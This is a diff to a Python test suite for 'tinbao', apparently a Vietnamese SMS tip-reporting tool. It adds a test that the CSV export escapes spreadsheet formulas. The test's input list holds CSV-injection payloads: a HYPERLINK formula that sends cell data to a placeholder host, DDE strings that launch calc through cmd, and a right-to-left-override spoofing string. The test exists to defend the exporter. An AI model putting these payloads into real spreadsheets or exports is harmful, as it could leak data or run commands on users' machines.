@@ -22,7 +22,7 @@ def started(name, **kw):
 
 
 def sqlite(h, sql):
-    p = subprocess.run(["sqlite3", h.db, sql], capture_output=True, text=True, timeout=30)
+    p = subprocess.run(["sqlite3", "-cmd", ".timeout 10000", h.db, sql], capture_output=True, text=True, timeout=30)
     check(p.returncode == 0, "sqlite3 %s: %s" % (sql, p.stderr))
 
 
@@ -184,9 +184,9 @@ def test_due_across_a_weekend_and_notice():
             h.cli("holiday", "add", x.isoformat(), "Nghỉ bù (thử)")
         e = entries("--within", "30d")
         due = notice_day(rk, hol)
-        check(e["notice"]["notice_day"] == due.isoformat(),
+        check(e["notice"]["due"] == due.isoformat(),
               "received %s (%s): %r, want %s" % (rk, rk.strftime("%a"), e["notice"], due))
-        check(datetime.datetime.fromisoformat(e["pass_on"]["deadline"]) ==
+        check(datetime.datetime.fromisoformat(e["pass_on"]["due"]) ==
               shifted + datetime.timedelta(hours=24), repr(e["pass_on"]))
     sqlite(h, "UPDATE tips SET created_at = created_at + %d WHERE code = '%s'"
            % (6 * 86400, code))
@@ -204,8 +204,8 @@ def test_due_across_a_weekend_and_notice():
     check(entries("--within", "1h") == {}, "nothing due within the hour")
     e = entries("--within", "30d")
     check(set(e) == {"pass_on", "notice"}, repr(e))
-    check(e["notice"]["notice_day"] == due.isoformat(), "%r, want %s" % (e["notice"], due))
-    check(datetime.datetime.fromisoformat(e["pass_on"]["deadline"]) ==
+    check(e["notice"]["due"] == due.isoformat(), "%r, want %s" % (e["notice"], due))
+    check(datetime.datetime.fromisoformat(e["pass_on"]["due"]) ==
           received + datetime.timedelta(hours=24), repr(e["pass_on"]))
     check(not e["notice"]["overdue"] and not e["pass_on"]["overdue"], repr(e))
     day_before = due - datetime.timedelta(days=1)
@@ -280,6 +280,55 @@ def test_book_csv():
     check(any(e["action"] == "tip.read" and e["detail"].startswith("book")
               for e in h.cli_json("audit", "list", "--tip", b)), "book read not audited")
     verify(h, 0)
+
+
+FORMULA_TIPS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "   =1+2 sau ba dấu cách",
+    "\t=1+2 sau một tab",
+    "\u202eexe.gnp có người lạ ở chợ",
+]
+
+
+def csv_dangerous(field):
+    """A cell a spreadsheet would run as a formula, or one that reorders text."""
+    lead = field.lstrip(" \t\r\n")
+    bidi = any(0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 for c in field)
+    return bidi or (field[:1] in ("\t", "\r")) or (lead[:1] in ("=", "+", "-", "@") and
+                                                   not field.startswith("'"))
+
+
+def test_book_csv_runs_no_formula():
+    """Issue 9.3: tip texts and notes that a spreadsheet would run come out
+    of `tinbao book --csv` with a leading ', and bidi controls stripped."""
+    h = started("bookcsv")
+    try:
+        for text in FORMULA_TIPS:
+            h.sms_in(citizen(), text)
+        tips = h.wait_tips(len(FORMULA_TIPS))
+    finally:
+        h.stop()
+    h.cli("ack", tips[0]["id"], "--officer", DUTY)
+    h.cli("close", tips[0]["id"], "--officer", DUTY, "--note", "=1+1 đã xong")
+    day = local_date(tips[0]["created_at"])
+    frm, to = (day - datetime.timedelta(days=1)).isoformat(), \
+        (day + datetime.timedelta(days=2)).isoformat()
+    raw = subprocess.run([os.path.join(BUILD, "tinbao"), "-c", h.conf, "book", "--from", frm,
+                          "--to", to, "--csv"], capture_output=True, timeout=60)
+    check(raw.returncode == 0, raw.stderr)
+    rows = list(csv.reader(io.StringIO(raw.stdout.decode("utf-8"), newline="")))
+    body = rows[1:]
+    check(len(body) == len(FORMULA_TIPS), repr(rows))
+    bad = [f for r in rows for f in r if csv_dangerous(f)]
+    check(not bad, "cells a spreadsheet would run or reorder: %r" % bad)
+    summaries = [r[6] for r in body]
+    check(any(s.startswith("'=HYPERLINK(") for s in summaries), repr(summaries))
+    check(any(s.startswith("'+cmd") for s in summaries), repr(summaries))
+    check(any("exe.gnp có người lạ" in s for s in summaries), repr(summaries))
+    check(any(r[12].startswith("Đã xử lý xong") for r in body), "the result column as before")
 
 
 def test_daily_summary_reaches_the_leader_once_a_day():
